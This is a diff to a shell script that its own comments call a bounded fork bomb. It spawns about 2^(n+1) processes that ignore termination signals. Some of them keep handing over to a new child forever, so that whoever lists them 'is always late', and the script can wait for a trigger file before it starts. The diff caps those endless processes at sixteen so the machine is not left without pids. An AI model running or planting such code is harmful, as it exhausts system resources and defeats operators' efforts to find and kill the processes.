@@ -1,21 +1,24 @@
 #!/bin/sh
-# A fork bomb of bounded size: "$1" generations that double, then lines of processes that hand over to a child and die, for
-# ever, so that whoever lists them is always late. 2 ** ("$1" + 1) processes; they do not care for signals. It goes off
-# when the file "$2" is there, if that is given.
+# A fork bomb of bounded size: "$1" generations that double, 2 ** ("$1" + 1) processes, of which LINES hand over to a child
+# and die, for ever, so that whoever lists them is always late; more of them would die faster than an init can reap, and
+# leave the machine without pids. They do not care for signals. It goes off when the file "$2" is there, if that is given.
+LINES=16
 trap '' TERM INT HUP QUIT
 
 # shellcheck disable=SC2264
 hop() { hop & }
 
+# "$1" generations, with "$2" lines among their last.
 bomb() {
-  if [ "$1" -eq 0 ]; then
+  if [ "$1" -gt 0 ]; then
+    bomb $(($1 - 1)) $((($2 + 1) / 2)) &
+    bomb $(($1 - 1)) $(($2 / 2)) &
+  elif [ "$2" -gt 0 ]; then
     hop
-  else
-    bomb $(($1 - 1)) &
-    bomb $(($1 - 1)) &
-    exec sleep 1000
+    exit
   fi
+  exec sleep 1000
 }
 
 until [ -z "${2-}" ] || [ -e "$2" ]; do sleep 0.1; done
-bomb "${1:-7}"
+bomb "${1:-7}" "$LINES"
